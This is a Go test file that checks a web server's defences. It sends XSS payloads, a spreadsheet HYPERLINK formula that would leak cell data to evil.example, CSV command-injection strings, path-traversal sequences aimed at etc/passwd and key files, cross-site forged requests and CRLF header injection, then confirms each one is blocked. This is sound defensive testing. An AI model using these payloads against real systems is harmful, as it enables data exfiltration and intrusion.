package server_test

import (
	"bufio"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"changrong/internal/access"
	"changrong/internal/adapter/httpapi"
	"changrong/internal/adapter/store"
	"changrong/internal/base/civil"
	"changrong/internal/server"
	"changrong/internal/subsidy"
)

const (
	script  = `<script>alert(1)</script><img src=x onerror=alert(1)>`
	formula = `=HYPERLINK("http://evil.example/?"&A1,"看")`
)

// TestNamesStayNames takes names that are scripts and formulas through what everybody
// reads and what is opened elsewhere.
func TestNamesStayNames(t *testing.T) {
	eachDatabase(t, func(t *testing.T, database string) {
		w := open(t, server.Config{Database: database})
		admin := w.person(t, "platform", access.PlatformOrg, access.SystemAdmin)
		for _, name := range []string{script, formula, "@SUM(1+1)", "+1", "-1+1|cmd"} {
			if resp := w.call(t, http.MethodPost, "/api/orgs", admin, map[string]string{"kind": "bank", "name": name}, nil); resp.StatusCode != http.StatusOK {
				t.Errorf("%s: %d", name, resp.StatusCode)
			}
		}
		if err := w.DB.Write(t.Context(), func(tx *store.Tx) error {
			return tx.AddNotice(&subsidy.Notice{ID: "n", Policy: "p", Title: script, Contact: formula, First: w.Now().Date(), Last: w.Now().Date(), At: w.Now()}, nil)
		}); err != nil {
			t.Fatal(err)
		}
		var notice struct{ Notice struct{ Title string } }
		resp := w.call(t, http.MethodGet, "/api/notices/n", "", nil, &notice) // anybody
		if notice.Notice.Title != script {
			t.Errorf("the title became %q", notice.Notice.Title)
		}
		guarded(t, "a notice", resp, "application/json")

		resp, text := ask(t, w.url+"/api/orgs?limit=200&format=csv", "Cookie", admin)
		guarded(t, "a list", resp, "text/csv")
		if !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment") {
			t.Errorf("a file is shown: %v", resp.Header)
		}
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
		if err != nil || len(rows) < 6 {
			t.Fatalf("%d rows, %v", len(rows), err)
		}
		found := 0
		for _, row := range rows {
			for _, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r") {
					t.Errorf("the cell %q is a formula", cell)
				}
				if cell == "'"+formula {
					found++
				}
			}
		}
		if found != 1 {
			t.Errorf("the formula is there %d times", found)
		}
	})
}

// guarded tells whether a browser takes an answer for what it is, and runs nothing.
func guarded(t *testing.T, what string, r reply, kind string) {
	t.Helper()
	h := r.Header
	csp := h.Get("Content-Security-Policy")
	if r.StatusCode != http.StatusOK || !strings.HasPrefix(h.Get("Content-Type"), kind) || h.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.Contains(csp, "default-src 'self'") || !strings.Contains(csp, "object-src 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("%s: %d %v", what, r.StatusCode, h)
	}
}

// raw sends bytes that no client would, and returns the answer.
func (w *town) raw(t *testing.T, request string) (int, string) {
	t.Helper()
	c, err := net.Dial("tcp", strings.TrimPrefix(w.url, "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := io.WriteString(c, request); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

func TestPathsLeadNowhereElse(t *testing.T) {
	w := open(t, server.Config{})
	cookie := w.person(t, "one", access.BankOrg, access.Bank)
	secret := "the keys of the platform"
	if err := os.WriteFile(filepath.Join(w.Data, "secret.txt"), []byte(secret), 0o600); err != nil {
		t.Fatal(err)
	}
	up := []string{"../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..%c0%af", "....//", "..;/", "%00/../"}
	for _, base := range []string{"/", "/assets/", "/api/", "/api/submissions/x/files/", "/api/claim-attachments/", "/api/policies/", "/api/uploads/", "/api/reporting/templates/"} {
		for _, u := range up {
			for _, target := range []string{"secret.txt", "keys/keys.json", "etc/passwd", "changrong.db"} {
				path := base + strings.Repeat(u, 6) + target
				status, body := w.raw(t, "GET "+path+" HTTP/1.1\r\nHost: a\r\nCookie: "+cookie+"\r\nConnection: close\r\n\r\n")
				if strings.Contains(body, secret) || strings.Contains(body, "root:") || strings.Contains(body, "SQLite format") || strings.Contains(body, `"private`) || status >= 500 {
					t.Errorf("%s: %d %.100q", path, status, body)
				}
			}
		}
	}
	for _, name := range []string{"../a.csv", `..\a.csv`, "/etc/a.csv", "C:a.csv", ".a.csv", "a\x00.csv", "a/b.csv", "a.csv/.."} {
		var p httpapi.Problem
		if resp := w.call(t, http.MethodPost, "/api/uploads", cookie, map[string]any{"name": name, "size": 3}, &p); resp.StatusCode != http.StatusUnprocessableEntity || p.Title == "" {
			t.Errorf("the name %q: %d %+v", name, resp.StatusCode, p)
		}
	}
}

func TestOtherSitesAndForgedRequests(t *testing.T) {
	w := open(t, server.Config{})
	admin := w.person(t, "platform", access.PlatformOrg, access.SystemAdmin)
	const body = `{"kind":"bank","name":"x"}`
	send := func(kind, body string, header ...string) (int, string) {
		t.Helper()
		text := fmt.Sprintf("POST /api/orgs HTTP/1.1\r\nHost: a\r\nCookie: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\nConnection: close\r\n", admin, kind, len(body))
		for i := 0; i+1 < len(header); i += 2 {
			text += header[i] + ": " + header[i+1] + "\r\n"
		}
		status, answer := w.raw(t, text+"\r\n"+body)
		var p httpapi.Problem
		if err := json.Unmarshal([]byte(answer), &p); err != nil {
			t.Errorf("%v in %.200s", err, answer)
		}
		return status, p.Code
	}
	for _, kind := range []string{"application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"} {
		for _, from := range [][]string{{"Sec-Fetch-Site", "cross-site"}, {"Sec-Fetch-Site", "same-site"}, {"Origin", "https://evil.example"}, {"Origin", "null"}} {
			if status, code := send(kind, body, from...); status != http.StatusForbidden || code != "http.cross_site" {
				t.Errorf("%s of %v: %d %s", kind, from, status, code)
			}
		}
	}
	for what, c := range map[string]struct {
		kind, body string
		status     int
		code       string
	}{
		"a form":          {"text/plain", body, 415, "http.media_type"},
		"very much":       {"application/json", `{"kind":"bank","name":"` + strings.Repeat("x", 2<<20) + `"}`, 413, "http.too_large"},
		"very deep":       {"application/json", strings.Repeat(`{"a":`, 100_000), 400, "json.deep"},
		"twice":           {"application/json", `{"kind":"bank","kind":"office","name":"x"}`, 400, "json.duplicate"},
		"something else":  {"application/json", `[1,2,3]`, 422, "http.invalid"},
		"nothing":         {"application/json", ``, 400, "http.body_missing"},
		"not even a text": {"application/json", "{\"name\":\"\xff\xfe\"}", 400, "json.utf8"},
		"after the end":   {"application/json", body + body, 400, "json.syntax"},
		"a name too long": {"application/json", `{"kind":"bank","name":"` + strings.Repeat("x", 1000) + `"}`, 422, "access.org_name"},
		"lines in a name": {"application/json", `{"kind":"bank","name":"a\r\nBcc: b@example.com"}`, 422, "access.org_name"},
	} {
		if status, code := send(c.kind, c.body); status != c.status || code != c.code {
			t.Errorf("%s: %d %s, not %d %s", what, status, code, c.status, c.code)
		}
	}
	if n := w.countOrgs(t, admin, "x"); n != 0 {
		t.Errorf("%d of them were carried out", n)
	}
}

// TestPlantedSessionsAreWorthNothing: the secret of a session is the platform's own,
// and another after signing in.
func TestPlantedSessionsAreWorthNothing(t *testing.T) {
	w := open(t, server.Config{BeginCode: "begin"})
	person := func(login string) map[string]string {
		return map[string]string{"login": login, "name": "王一", "password": "Zhe-Jiang 2021" + login[:3]}
	}
	if resp := w.call(t, http.MethodPost, "/api/platform", "", map[string]any{"org": "中心", "code": "begin", "system": person("sys.one"), "security": person("sec.one")}, nil); resp.StatusCode != http.StatusNoContent {
		t.Fatalf("%d", resp.StatusCode)
	}
	cookies := []string{"changrong_session=planted-by-another"}
	for range 2 { // signing in again ends what was before
		in := map[string]string{"login": "sys.one", "password": "Zhe-Jiang 2021sys"}
		resp := w.call(t, http.MethodPost, "/api/session", cookies[len(cookies)-1], in, nil)
		set, _, _ := strings.Cut(resp.Header.Get("Set-Cookie"), ";")
		if resp.StatusCode != http.StatusOK || set == "" || set == cookies[len(cookies)-1] {
			t.Fatalf("%d %q", resp.StatusCode, set)
		}
		cookies = append(cookies, set)
		for i, c := range cookies {
			want := map[bool]int{true: http.StatusOK, false: http.StatusUnauthorized}[i == len(cookies)-1]
			if resp := w.call(t, http.MethodGet, "/api/session", c, nil, nil); resp.StatusCode != want {
				t.Errorf("the cookie %d of %d: %d", i+1, len(cookies), resp.StatusCode)
			}
		}
	}
	w.clock.Add(int64(12 * civil.Hour))
	if resp := w.call(t, http.MethodGet, "/api/session", cookies[len(cookies)-1], nil, nil); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("half a day later: %d", resp.StatusCode)
	}
}
